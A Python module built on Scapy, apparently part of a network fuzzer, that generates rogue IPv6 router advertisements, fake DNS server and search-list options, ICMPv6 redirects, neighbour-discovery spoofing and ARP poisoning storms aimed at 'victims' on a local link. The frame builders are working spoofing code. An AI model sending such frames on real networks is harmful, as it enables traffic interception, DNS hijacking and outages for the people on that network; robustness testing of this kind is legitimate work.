"""Router advertisements, redirects and neighbours that nobody should believe (RFC 4861, RFC 8106, RFC 4191, RFC 826)."""

import random

from scapy.layers.inet6 import (
    ICMPv6ND_NA, ICMPv6ND_NS, ICMPv6ND_RA, ICMPv6ND_Redirect, ICMPv6NDOptDNSSL, ICMPv6NDOptDstLLAddr, ICMPv6NDOptMTU,
    ICMPv6NDOptPrefixInfo, ICMPv6NDOptRDNSS, ICMPv6NDOptRouteInfo, ICMPv6NDOptSrcLLAddr, ICMPv6NDOptUnknown, IPv6,
    IPv6ExtHdrDestOpt, IPv6ExtHdrFragment, IPv6ExtHdrHopByHop, IPv6ExtHdrRouting, PadN,
)  # fmt: skip
from scapy.layers.l2 import ARP, Ether
from scapy.packet import Raw, fuzz

import words

ALL = {"mac": "33:33:00:00:00:01", "ipv6": "ff02::1"}
LIFETIMES = [0, 1, 2, 60, 1800, 9000, 65535]


def rogue(link):
    return {"mac": link["mac"], "ipv6": "fe80::66"}


def anybody(link):
    """The rogue itself, or the router whom it mimics."""
    return random.choice([rogue(link), link["router"]])


def advertisement(source, options=(), extensions=(), **fields):
    packet = Ether(src=source["mac"], dst=ALL["mac"]) / IPv6(src=source["ipv6"], dst=ALL["ipv6"], hlim=255)
    for each in extensions:
        packet /= each
    packet /= ICMPv6ND_RA(**{"routerlifetime": 1800, "chlim": 64, **fields})
    for each in options:
        packet /= each
    return packet


def prefix(address, **fields):
    return ICMPv6NDOptPrefixInfo(prefix=address, **{"prefixlen": 64, "validlifetime": 3600, "preferredlifetime": 1800, **fields})


def some_prefix():
    return f"2001:db8:bad:{random.randrange(0x10000):x}::"


def lifetimes(link, _):
    times = {"validlifetime": random.choice(words.HUGE), "preferredlifetime": random.choice(words.HUGE)}
    told = prefix(random.choice([link["router"]["prefix"], some_prefix(), "fd66::"]), **times)
    return [advertisement(anybody(link), [told], routerlifetime=random.choice(LIFETIMES), prf=random.randrange(4))]


def limits(link, _):
    fields = {"chlim": random.choice([0, 1, 2, 64, 255]), "reachabletime": random.choice(words.HUGE),
              "retranstimer": random.choice(words.HUGE), "M": random.randrange(2), "O": random.randrange(2)}  # fmt: skip
    mtu = ICMPv6NDOptMTU(mtu=random.choice([*words.NUMBERS, *words.HUGE]))
    return [advertisement(anybody(link), [mtu], **fields)]


def prefixes(link, _):
    """A hundred of them, by several advertisements."""
    def one():
        length = random.choice([64, 64, 64, 0, 1, 48, 63, 65, 128, 255])
        return prefix(random.choice([some_prefix(), *words.IPV6]), prefixlen=length, L=random.randrange(2), A=1)

    return [advertisement(anybody(link), [one() for _ in range(25)]) for _ in range(4)]


def routers(link, _):
    """A hundred of them."""
    frames = []
    for at in range(100):
        source = {"mac": words.mac(), "ipv6": f"fe80::66:{random.randrange(0x10000):x}:{at:x}"}
        options = [ICMPv6NDOptSrcLLAddr(lladdr=source["mac"]), prefix(some_prefix())]
        frames.append(advertisement(source, options, prf=random.choice([0, 1, 3]), routerlifetime=random.choice(LIFETIMES)))
    return frames


def dns(link, _):
    """RDNSS and DNSSL, many, and with texts in place of labels."""
    servers = [random.choice([*words.IPV6, f"2001:db8:bad::{random.randrange(0x10000):x}"]) for _ in range(random.choice([1, 3, 30]))]
    label = words.text()[:63]
    raw = bytes([len(label)]) + label + random.choice([b"\0", b"", b"\xc0\x00", b"\x3f"])
    options = [
        ICMPv6NDOptRDNSS(dns=servers, lifetime=random.choice(words.HUGE)),
        ICMPv6NDOptUnknown(type=31, data=bytes(6) + raw.ljust((len(raw) + 7) // 8 * 8, b"\0")),
        ICMPv6NDOptDNSSL(searchlist=["evil.example"] * random.choice([1, 20]), lifetime=random.choice(words.HUGE)),
    ]
    return [advertisement(anybody(link), random.sample(options, random.randrange(1, 4))) for _ in range(10)]


def lies(link, _):
    """Options whose length lies, that nobody knows, and routes (RFC 4191), prefixes of NAT64 (RFC 8781) and portals (RFC 8910)."""
    def one():
        return random.choice([
            ICMPv6NDOptUnknown(type=random.choice([1, 3, 5, 25, 31, 37, 38, 253]), len=random.choice([0, 1, 2, 255]), data=random.randbytes(6)),
            ICMPv6NDOptRouteInfo(prefix=random.choice(words.IPV6), plen=random.choice([0, 1, 64, 128]), rtlifetime=random.choice(words.HUGE), prf=1),
            ICMPv6NDOptUnknown(type=38, data=random.randbytes(14)),
            ICMPv6NDOptUnknown(type=37, data=words.text()[:38].ljust(38, b"\0")),
            prefix("2001:db8:1::", prefixlen=128, validlifetime=0xFFFFFFFF),
        ])  # fmt: skip

    built = advertisement(anybody(link), [one() for _ in range(random.randrange(1, 6))])
    raw = bytes(built)
    return [Raw(raw[: random.randrange(54, len(raw))]) if random.random() < 0.2 else built]


def fragments(link, _):
    """Advertisements behind extension headers and in fragments, which RFC 6980 forbids."""
    before = random.choice([
        [IPv6ExtHdrHopByHop(options=[PadN(optdata=random.randbytes(4))])],
        [IPv6ExtHdrDestOpt(options=[PadN(optdata=bytes(4))]) for _ in range(8)],
        [IPv6ExtHdrRouting(type=random.choice([0, 2, 4, 253]), segleft=random.choice([0, 1, 255]), addresses=["::1"])],
        [IPv6ExtHdrFragment(m=random.randrange(2), offset=random.choice([0, 1, 8191]), id=random.getrandbits(32))],
    ])  # fmt: skip
    return [advertisement(anybody(link), [prefix(some_prefix())], before) for _ in range(4)]


def nonsense(link, _):
    source, victim = anybody(link), random.choice(link["victims"])
    layer = random.choice([ICMPv6ND_RA, ICMPv6ND_NS, ICMPv6ND_NA, ICMPv6ND_Redirect])
    packet = Ether(src=source["mac"], dst=victim["mac"]) / IPv6(src=source["ipv6"], dst=victim["linkLocal"], hlim=255)
    return [packet / fuzz(layer()) / fuzz(random.choice([ICMPv6NDOptPrefixInfo, ICMPv6NDOptMTU, ICMPv6NDOptSrcLLAddr])())]


def redirects(link, _):
    victim = random.choice(link["victims"])
    packet = Ether(src=link["router"]["mac"], dst=victim["mac"]) / IPv6(src=link["router"]["ipv6"], dst=victim["linkLocal"], hlim=255)
    target = random.choice(["fe80::66", "fe80::dead", "2001:db8:ffff::10", "::1"])
    lure = Raw(bytes(IPv6(src=random.choice(victim["ipv6"]), dst="2001:db8:ffff::10") / Raw(b"x" * 64)))
    return [packet / ICMPv6ND_Redirect(tgt=target, dst="2001:db8:ffff::10") / ICMPv6NDOptDstLLAddr(lladdr=link["mac"]) / lure]


def neighbours(link, _):
    """Whoever is asked about says that he is elsewhere; and addresses of victims are taken already (RFC 4862 section 5.4).

    No group is named: the victim hears what goes there, and answers probes without an address of its own (RFC 4861 section
    7.2.4), so that a router that believes it does so for ever.
    """
    own = link["router"]["prefix"]
    frames = []
    for _ in range(50):
        victim = random.choice(link["victims"])
        whose = random.choice([link["router"]["ipv6"], f"{own}1", *victim["ipv6"], f"{own}{random.randrange(0x10000):x}"])
        to = random.choice([ALL, {"mac": victim["mac"], "ipv6": victim["linkLocal"]}])
        packet = Ether(src=link["mac"], dst=to["mac"])
        said = IPv6(src=random.choice([whose, "fe80::66"]), dst=to["ipv6"], hlim=255)
        frames.append(random.choice([
            packet / said / ICMPv6ND_NA(tgt=whose, R=random.randrange(2), S=random.randrange(2), O=1) / ICMPv6NDOptDstLLAddr(lladdr=words.unicast_mac()),
            packet / IPv6(src="::", dst=to["ipv6"], hlim=255) / ICMPv6ND_NS(tgt=whose),
            packet / IPv6(src=f"{own}66:{random.randrange(0x10000):x}", dst=to["ipv6"], hlim=255)
            / ICMPv6ND_NS(tgt=whose) / ICMPv6NDOptSrcLLAddr(lladdr=words.unicast_mac()),
        ]))  # fmt: skip
    return frames


def arp(link, _):
    """Gateways and victims that are elsewhere, questions of thousands, and conflicts (RFC 5227)."""
    frames = []
    for _ in range(50):
        victim = random.choice(link["victims"])
        whose = random.choice([link["router"]["ipv4"], victim["ipv4"], f"192.168.1.{random.randrange(256)}", "0.0.0.0"])
        to = random.choice([whose, victim["ipv4"]])
        said = ARP(op=random.choice([1, 1, 2, 2, 3, 65535]), hwsrc=words.mac(), psrc=whose, hwdst=victim["mac"], pdst=to)
        frames.append(Ether(src=link["mac"], dst=random.choice(["ff:ff:ff:ff:ff:ff", victim["mac"]])) / said)
    return frames


KINDS = {
    "ra-lifetimes": (lifetimes, None, 0.05),
    "ra-limits": (limits, None, 0.05),
    "ra-prefixes": (prefixes, None, 0.05),
    "ra-routers": (routers, None, 0.1),
    "ra-dns": (dns, None, 0.05),
    "ra-lies": (lies, None, 0.05),
    "ra-fragments": (fragments, None, 0.05),
    "nd-nonsense": (nonsense, None, 0.02),
    "nd-redirects": (redirects, None, 0.05),
    "nd-storm": (neighbours, None, 0.1),
    "arp-storm": (arp, None, 0.1),
}
